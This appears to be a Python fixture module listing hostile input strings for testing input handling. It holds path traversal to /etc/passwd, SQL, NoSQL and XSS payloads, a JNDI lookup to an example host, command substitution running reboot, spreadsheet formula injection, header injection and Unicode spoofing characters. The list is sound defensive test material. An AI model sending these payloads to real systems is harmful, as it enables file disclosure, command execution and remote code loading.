"""Words that mean something to somebody else: a shell, a database, a browser, a file system."""

TRAVERSAL = (
    "../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc",
    "%00",
    "file:///etc/passwd",
)
INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '{"$ne": null}',
    "attribute_exists(owner)",
    ":value",
    "#name",
    "name#root#a",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "$(reboot)",
    "`reboot`",
    "=cmd|' /C calc'!A0",
    "a\r\nSet-Cookie: owned=1",
)
LOOKALIKES = (
    "\u202egnp.exe",  # right-to-left override
    "a\u200b",  # nothing that one sees
    "\ufeffa",
    "a\u0000b",
    "\ud800",  # half a character
    "é" * 300,
    "🙂" * 100,
    "ﷺ" * 200,  # grows when it is normalised
)
LONG = ("a" * 10_000,)
HOSTILE = (*TRAVERSAL, *INJECTIONS, *LOOKALIKES, *LONG)
